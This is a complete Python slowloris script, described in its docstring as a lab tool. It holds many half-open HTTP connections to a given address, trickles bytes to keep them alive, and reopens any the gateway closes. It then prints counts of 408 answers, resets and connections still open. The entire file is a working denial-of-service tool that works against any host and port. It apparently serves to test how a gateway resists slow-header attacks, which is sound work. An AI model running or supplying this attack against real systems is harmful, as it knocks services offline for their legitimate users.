#!/usr/bin/env python3
"""Slow-header attack (slowloris) for the lab: opens CONNECTIONS connections to
ADDRESS:PORT from SOURCE, sends the start of a request head on each, then one more byte
on each every INTERVAL seconds, never ending the head, for SECONDS seconds. A connection
the gateway ends is opened again, so the attack keeps its size. Prints one JSON line:
how many connections were opened, how many the gateway answered with 408, reset or
closed, and how many were still trickling at the end.
INTERVAL 0: the connections send nothing at all (they only hold what accepting them took).
usage: slow_heads.py SOURCE ADDRESS PORT CONNECTIONS INTERVAL SECONDS"""
import errno
import json
import resource
import selectors
import socket
import sys
import time

SOURCE, ADDRESS, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
CONNECTIONS, INTERVAL, SECONDS = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
HEAD_START = b"GET / HTTP/1.1\r\nHost: slow.example.com\r\nX-Slow: "

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, CONNECTIONS * 2 + 64), hard))

sel = selectors.DefaultSelector()
counts = {"opened": 0, "answered_408": 0, "answered_other": 0, "reset": 0, "closed": 0, "connect_failed": 0}


def open_one():
    s = socket.socket(socket.AF_INET6 if ":" in ADDRESS else socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.bind((SOURCE, 0))
    err = s.connect_ex((ADDRESS, PORT))
    if err not in (0, errno.EINPROGRESS):
        counts["connect_failed"] += 1
        s.close()
        return
    counts["opened"] += 1
    # state: [connected, bytes of the head sent]
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, [False, 0])


def end(key, what):
    counts[what] += 1
    sel.unregister(key.fileobj)
    key.fileobj.close()


deadline = time.monotonic() + SECONDS
for _ in range(CONNECTIONS):
    open_one()
next_trickle = time.monotonic() + INTERVAL if INTERVAL > 0 else float("inf")
while time.monotonic() < deadline:
    for key, events in sel.select(timeout=0.05):
        state = key.data
        if events & selectors.EVENT_WRITE and not state[0]:
            err = key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err != 0:
                # Reset after the handshake (a gateway that answers with SYN cookies takes
                # every connection and may give it up before this loop saw it connected).
                end(key, "reset" if err == errno.ECONNRESET else "connect_failed")
                open_one()
                continue
            state[0] = True
            if INTERVAL > 0:
                try:
                    key.fileobj.send(HEAD_START)
                except OSError:
                    end(key, "reset")  # given up by the gateway before its first bytes
                    open_one()
                    continue
            sel.modify(key.fileobj, selectors.EVENT_READ, state)
            continue
        if events & selectors.EVENT_READ:
            try:
                data = key.fileobj.recv(4096)
            except ConnectionResetError:
                end(key, "reset")
                open_one()
                continue
            if not data:
                end(key, "closed")
            elif data.startswith(b"HTTP/1.1 408"):
                end(key, "answered_408")
            else:
                end(key, "answered_other")
            open_one()
    if time.monotonic() >= next_trickle:
        next_trickle += INTERVAL
        for key in list(sel.get_map().values()):
            if key.data[0]:
                try:
                    key.fileobj.send(b"x")
                except OSError:
                    end(key, "reset")
                    open_one()
counts["trickling"] = len(sel.get_map())
print(json.dumps(counts))
